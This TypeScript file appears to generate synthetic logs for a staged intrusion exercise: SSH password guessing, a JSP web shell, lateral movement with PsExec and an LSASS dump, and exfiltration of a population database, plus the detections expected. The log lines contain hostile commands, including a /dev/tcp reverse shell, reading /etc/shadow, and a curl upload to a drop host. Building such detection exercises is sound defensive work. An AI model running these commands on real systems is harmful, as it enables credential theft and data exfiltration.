import { cast } from "../city.ts";
import { clock } from "../happening.ts";
import type { Happening, Story } from "../happening.ts";
import { alert, flow } from "../lines/eve.ts";
import { sshd, sudo } from "../lines/syslog.ts";
import { nginx } from "../lines/web.ts";
import { logon, process, system } from "../lines/windows.ts";

const attacker = "203.0.113.77";
const dropSite = "198.51.100.23";
const { portal, exchange, population, jump } = cast;

const guesses = ["root", "admin", "oracle", "test", "tomcat", "nginx", "deploy", "postgres"];

/** 02:10 guessing of passwords against the portal's host, two minutes, then one that fits. */
const bruteForce: Happening[] = [
  ...Array.from({ length: 60 }, (_, n): Happening => {
    const user = guesses[n % guesses.length] ?? "root";
    const invalid = ["admin", "oracle", "test"].includes(user) ? "invalid user " : "";
    return {
      at: clock("02:10", n * 2),
      via: "syslog",
      line: (t) => sshd(t, portal, `Failed password for ${invalid}${user} from ${attacker} port ${42_000 + n} ssh2`),
    };
  }),
  {
    at: clock("02:12", 8),
    via: "syslog",
    line: (t) => sshd(t, portal, `Accepted password for deploy from ${attacker} port 42990 ssh2`),
  },
];

/** 02:18 a JSP shell is put beside the portal's pages and used. */
const webShell: Happening[] = [
  ["id", 0],
  ["whoami", 20],
  ["cat%20/etc/passwd", 45],
  ["ifconfig", 70],
].map(
  ([command, second]): Happening => ({
    at: clock("02:18", Number(second)),
    via: "syslog",
    line: (t) =>
      nginx(t, portal, {
        from: attacker,
        path: `/upload/avatar/shell.jsp?cmd=${command}`,
        bytes: 412,
        agent: "python-requests/2.31.0",
      }),
  }),
);
webShell.unshift({
  at: clock("02:17"),
  via: "syslog",
  line: (t) =>
    nginx(t, portal, {
      from: attacker,
      method: "POST",
      path: "/upload/avatar/upload.jsp",
      status: 200,
      agent: "python-requests/2.31.0",
    }),
});
webShell.push({
  at: clock("02:19", 30),
  via: "eve",
  line: (t) =>
    alert(t, {
      from: attacker,
      to: portal.ip,
      port: 80,
      app: "http",
      sid: 2_016_683,
      signature: "ET WEB_SERVER WebShell Generic - JSP File Uploaded",
      category: "Web Application Attack",
      severity: 1,
    }),
});

/** 02:40 from the portal on to the exchange platform and the operators' jump host. */
const lateral: Happening[] = [
  {
    at: clock("02:30"),
    via: "syslog",
    line: (t) =>
      sudo(t, portal, { user: "deploy", command: "/usr/bin/bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1" }),
  },
  {
    at: clock("02:40"),
    via: "syslog",
    line: (t) => sshd(t, exchange, `Accepted password for deploy from ${portal.ip} port 51022 ssh2`),
  },
  {
    at: clock("02:44"),
    via: "syslog",
    line: (t) => sudo(t, exchange, { user: "deploy", command: "/usr/bin/cat /etc/shadow" }),
  },
  { at: clock("02:52"), via: "winlogbeat", line: (t) => logon(t, jump, { user: "svc-backup", from: exchange.ip }) },
  {
    at: clock("02:52", 20),
    via: "winlogbeat",
    line: (t) =>
      system(t, jump, {
        id: 7045,
        data: {
          ServiceName: "PSEXESVC",
          ImagePath: "%SystemRoot%\\PSEXESVC.exe",
          ServiceType: "user mode service",
          StartType: "demand start",
          AccountName: "LocalSystem",
        },
      }),
  },
  {
    at: clock("02:53"),
    via: "winlogbeat",
    line: (t) =>
      process(t, jump, {
        image: "C:\\Windows\\System32\\cmd.exe",
        command: 'cmd.exe /c net group "Domain Admins" /domain',
        parent: "C:\\Windows\\PSEXESVC.exe",
        user: "NT AUTHORITY\\SYSTEM",
      }),
  },
  {
    at: clock("02:56"),
    via: "winlogbeat",
    line: (t) =>
      process(t, jump, {
        image: "C:\\Windows\\System32\\rundll32.exe",
        command: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full",
        parent: "C:\\Windows\\System32\\cmd.exe",
        user: "NT AUTHORITY\\SYSTEM",
      }),
  },
];

/** 03:20 the population data base is dumped, packed and carried out. */
const exfiltration: Happening[] = [
  {
    at: clock("03:20"),
    via: "syslog",
    line: (t) => sshd(t, population, `Accepted password for deploy from ${exchange.ip} port 38211 ssh2`),
  },
  {
    at: clock("03:24"),
    via: "syslog",
    line: (t) =>
      sudo(t, population, { user: "deploy", command: "/usr/bin/pg_dump -U postgres -f /tmp/.cache/rk.sql population" }),
  },
  {
    at: clock("03:41"),
    via: "syslog",
    line: (t) =>
      sudo(t, population, { user: "deploy", command: `/usr/bin/curl -T /tmp/.cache/rk.tgz http://${dropSite}/u` }),
  },
  {
    at: clock("03:55"),
    via: "eve",
    line: (t) =>
      flow(t, {
        from: population.ip,
        to: dropSite,
        port: 80,
        app: "http",
        up: 4_812_000_000,
        down: 220_000,
        seconds: 780,
      }),
  },
  {
    at: clock("03:56"),
    via: "eve",
    line: (t) =>
      alert(t, {
        from: population.ip,
        to: dropSite,
        port: 80,
        app: "http",
        sid: 2_024_897,
        signature: "ET INFO Large Outbound HTTP PUT to External Host",
        category: "Potential Corporate Privacy Violation",
        severity: 1,
      }),
  },
];

export const intrusion: Story = {
  name: {
    zh: "口令爆破 → 网页木马 → 横向移动 → 数据外传",
    en: "password guessing → web shell → lateral movement → exfiltration",
  },
  happenings: [...bruteForce, ...webShell, ...lateral, ...exfiltration],
  entity: attacker,
  expect: [
    { zh: "门户主机 SSH 口令爆破并登录成功", en: "SSH passwords guessed on the portal's host, then a login" },
    { zh: "上传目录中的 JSP 网页木马执行命令", en: "a JSP web shell in the upload folder runs commands" },
    {
      zh: "经数据交换平台到运维跳板机的横向移动（PsExec、转储 LSASS）",
      en: "lateral movement to the jump host (PsExec, LSASS dump)",
    },
    { zh: "人口基础库导出后外传 4.8 GB", en: "the population data base dumped, 4.8 GB carried out" },
  ],
};
